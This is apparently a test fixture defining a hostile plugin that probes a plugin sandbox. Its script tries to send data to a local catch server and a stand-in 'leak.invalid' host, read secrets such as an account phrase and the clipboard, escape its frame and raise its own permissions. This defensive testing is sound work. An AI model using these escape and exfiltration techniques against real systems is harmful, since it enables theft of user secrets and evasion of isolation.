/** A plugin whose panel tries everything that could reach somebody, and says what came of each. */

export const HOSTILE_MANIFEST = JSON.stringify({
  format: 1,
  id: 'hostile',
  version: '1.0.0',
  name: 'Hostile',
  summary: 'Tries to get out',
  author: 'Mallory',
  capabilities: ['member.list'],
});

/** Keeps what its panel reports, for the test to ask for. */
export const HOSTILE_CODE = `
let reported = [];
plexi.answer('report', (list) => { reported = list; plexi.log('reported ' + JSON.stringify(list)); return list.length; });
`;

export const HOSTILE_PAGE = `<!doctype html>
<meta charset="utf-8">
<title>Hostile</title>
<meta http-equiv="refresh" content="600;url=http://127.0.0.1:PORT/refresh">
<link rel="preconnect" href="http://127.0.0.1:PORT">
<link rel="dns-prefetch" href="http://leak.invalid">
<link rel="prefetch" href="http://127.0.0.1:PORT/prefetch">
<link rel="stylesheet" href="http://127.0.0.1:PORT/style.css">
<img src="http://127.0.0.1:PORT/image.png">
<script>window.inlined = true;</script>
<script src="http://127.0.0.1:PORT/script.js"></script>
<script src="panel.js"></script>
<body onload="window.attributed = true">`;

/** `PORT` is where a server waits for whoever gets out. */
export const HOSTILE_SCRIPT = `
const OUT = 'http://127.0.0.1:PORT';
const gained = [];
const attempt = async (name, work) => {
  try {
    const got = await Promise.race([work(), new Promise((resolve) => setTimeout(resolve, 700, false))]);
    if (got) gained.push(name);
  } catch {}
};
const opens = (source, good = 'open') => new Promise((resolve) => { source.addEventListener(good, () => resolve(true)); source.addEventListener('error', () => resolve(false)); });
const loads = (element) => new Promise((resolve) => { element.onload = () => resolve(true); element.onerror = () => resolve(false); document.body.append(element); });
const make = (tag, properties) => Object.assign(document.createElement(tag), properties);

addEventListener('message', async ({ ports: [port] }) => {
  const pending = new Map();
  let asked = 0;
  port.onmessage = ({ data }) => { const { id, error, output } = JSON.parse(data); pending.get(id)?.({ error, output }); };
  const raw = (message) => new Promise((resolve) => { const id = ++asked; pending.set(id, resolve); port.postMessage(JSON.stringify({ ...message, id })); });

  for (let chord = 0; chord < 8; chord++) port.postMessage(JSON.stringify({ kind: 'key', chord }));
  await attempt('inline script', async () => window.inlined || window.attributed);
  await attempt('eval', async () => eval('1') === 1);
  await attempt('new Function', async () => new Function('return 1')() === 1);
  await attempt('fetch', async () => (await fetch(OUT + '/fetch', { mode: 'no-cors' })) !== undefined);
  await attempt('fetch of the interface', async () => (await fetch('/')).ok);
  await attempt('fetch of another panel file', async () => (await fetch('panel.js')).ok);
  await attempt('XMLHttpRequest', async () => { const x = new XMLHttpRequest(); x.open('GET', OUT + '/xhr'); x.send(); return opens(x, 'load'); });
  await attempt('WebSocket', async () => opens(new WebSocket('ws://127.0.0.1:PORT/socket')));
  await attempt('the interface’s channel', async () => opens(new WebSocket('ws://' + location.host + '/channel', 'plexi.1')));
  await attempt('EventSource', async () => opens(new EventSource(OUT + '/events')));
  await attempt('beacon', async () => navigator.sendBeacon(OUT + '/beacon', 'x') && false);
  await attempt('image', async () => loads(make('img', { src: OUT + '/image' })));
  await attempt('script', async () => loads(make('script', { src: OUT + '/later.js' })));
  await attempt('style', async () => loads(make('link', { rel: 'stylesheet', href: OUT + '/later.css' })));
  await attempt('film', async () => opens(make('video', { src: OUT + '/film', autoplay: true }), 'canplay'));
  await attempt('worker', async () => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return opens(w, 'message'); });
  await attempt('service worker', async () => (await navigator.serviceWorker.register('panel.js')) !== undefined);
  await attempt('frame', async () => { document.body.append(make('iframe', { src: OUT + '/frame' })); return false; });
  await attempt('a frame of markup', async () => { const f = make('iframe', { srcdoc: '<script>parent.framed = true;fetch("' + OUT + '/srcdoc")<' + '/script>' }); document.body.append(f); await new Promise((r) => setTimeout(r, 300)); return window.framed; });
  await attempt('form', async () => { const f = make('form', { action: OUT + '/form', method: 'post' }); document.body.append(f); f.submit(); return false; });
  await attempt('window', async () => window.open(OUT + '/window') !== null);
  await attempt('top navigation', async () => { top.location = OUT + '/top'; return false; });
  await attempt('parent navigation', async () => { parent.location.replace(OUT + '/parent'); return false; });
  await attempt('parent document', async () => parent.document.body !== null);
  await attempt('parent storage', async () => parent.sessionStorage.length >= 0);
  await attempt('storage', async () => { localStorage.setItem('a', 'b'); return true; });
  await attempt('cookie', async () => { document.cookie = 'a=b'; return document.cookie !== ''; });
  await attempt('IndexedDB', async () => { const open = indexedDB.open('x'); return opens(open, 'success'); });
  await attempt('prefetch', async () => { document.head.append(make('link', { rel: 'prefetch', href: OUT + '/prefetched' })); return false; });
  await attempt('ping', async () => { const a = make('a', { href: '#x', ping: OUT + '/ping' }); document.body.append(a); a.click(); return false; });
  await attempt('WebRTC', async () => { const rtc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] }); rtc.createDataChannel('x'); await rtc.setLocalDescription(await rtc.createOffer()); await new Promise((r) => setTimeout(r, 600)); return false; });
  await attempt('preconnect', async () => { document.head.append(make('link', { rel: 'preconnect', href: OUT })); await new Promise((r) => setTimeout(r, 300)); return false; });
  await attempt('camera', async () => (await navigator.mediaDevices.getUserMedia({ video: true })) !== undefined);
  await attempt('clipboard', async () => (await navigator.clipboard.readText()) !== undefined);
  await attempt('an operation beyond the grant', async () => (await raw({ kind: 'call', operation: 'message.list', input: { space: 'Lab', channel: 'general' } })).error === undefined);
  await attempt('the phrase', async () => (await raw({ kind: 'call', operation: 'account.phrase', input: {} })).error === undefined);
  await attempt('granting itself more', async () => (await raw({ kind: 'call', operation: 'plugin.grant', input: { plugin: 'hostile' } })).error === undefined);
  await attempt('posing as another plugin', async () => (await raw({ kind: 'ask', plugin: 'reminders', name: 'list', input: null })).error === undefined);
  await attempt('calling for another plugin', async () => (await raw({ kind: 'call', plugin: 'reminders', operation: 'channel.list', input: { space: 'Lab', plugin: 'reminders' } })).error === undefined);
  await attempt('calling by the interface’s own form', async () => { port.postMessage(JSON.stringify({ call: 1, operation: 'account.show', input: {} })); parent.postMessage(JSON.stringify({ call: 1, operation: 'account.phrase', input: {} }), '*'); return false; });
  for (const junk of ['', '{', 'null', '[]', '{"kind":"call"}', '{"kind":"call","id":1.5,"operation":"x"}', 'x'.repeat(400000)]) port.postMessage(junk);
  port.postMessage({ kind: 'call', id: 1, operation: 'account.show' });
  const granted = await raw({ kind: 'call', operation: 'member.list', input: { space: 'Lab' } });
  await raw({ kind: 'ask', name: 'report', input: { gained, members: granted.output?.length, code: granted.error?.code } });
  // What follows takes the frame elsewhere, or would.
  make('a', { href: OUT + '/download', download: 'x' }).click();
  location.href = OUT + '/self?stolen';
});
`;
